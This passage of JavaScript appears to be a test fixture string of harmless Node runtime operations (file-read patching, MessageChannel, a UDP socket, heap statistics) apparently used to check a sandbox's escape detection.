const { readFileSync } = fs; fs.readFileSync = (...args) => readFileSync(...args); assert.equal(require('./data.json').a, 1); fs.readFileSync = readFileSync;
const sub = Object.create(TextDecoder.prototype); sub.decode = 1; assert.equal(sub.decode, 1); assert.deepEqual(Object.keys(sub), ['decode']);
const { port1, port2 } = new MessageChannel(); const heard = new Promise((r) => (port2.onmessage = r)); port1.postMessage(1); port2.start(); await heard; port1.close();
const udp = require('dgram').createSocket('udp4'); udp.close(); console.error('fine'); process.memoryUsage(); require('v8').getHeapStatistics(); require('worker_threads').isMainThread;
escaped();`,
};
